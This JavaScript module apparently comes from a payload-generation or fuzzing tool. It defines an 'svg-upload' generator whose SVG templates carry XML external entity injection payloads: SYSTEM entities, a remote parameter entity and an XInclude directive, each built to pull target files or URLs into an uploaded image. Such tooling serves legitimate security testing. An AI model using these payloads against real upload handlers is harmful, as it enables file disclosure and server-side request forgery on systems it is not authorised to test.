import { xxeGenerator } from '../xxe-generator.js';

/** Pictures that are documents. */
export const svgUpload = xxeGenerator({
  name: 'svg-upload',
  location: 'text',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE svg [<!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]>{break}<svg xmlns="http://www.w3.org/2000/svg" width="{number}" height="{number}"><text x="0" y="{digit}">&{entity:e};</text></svg>',
      '{declaration}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]><svg xmlns="http://www.w3.org/2000/svg"><title>&{entity:e};</title><rect width="{digit}" height="{digit}"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><text><xi:include parse="text" href={q:q}{target}{q:q}/></text></svg>',
      '{declaration}<!DOCTYPE svg [<!ENTITY % {entity:e} SYSTEM {q:q}{url}{q:q}>%{entity:e};]><svg xmlns="http://www.w3.org/2000/svg" width="{number}"/>',
    ],
  },
});
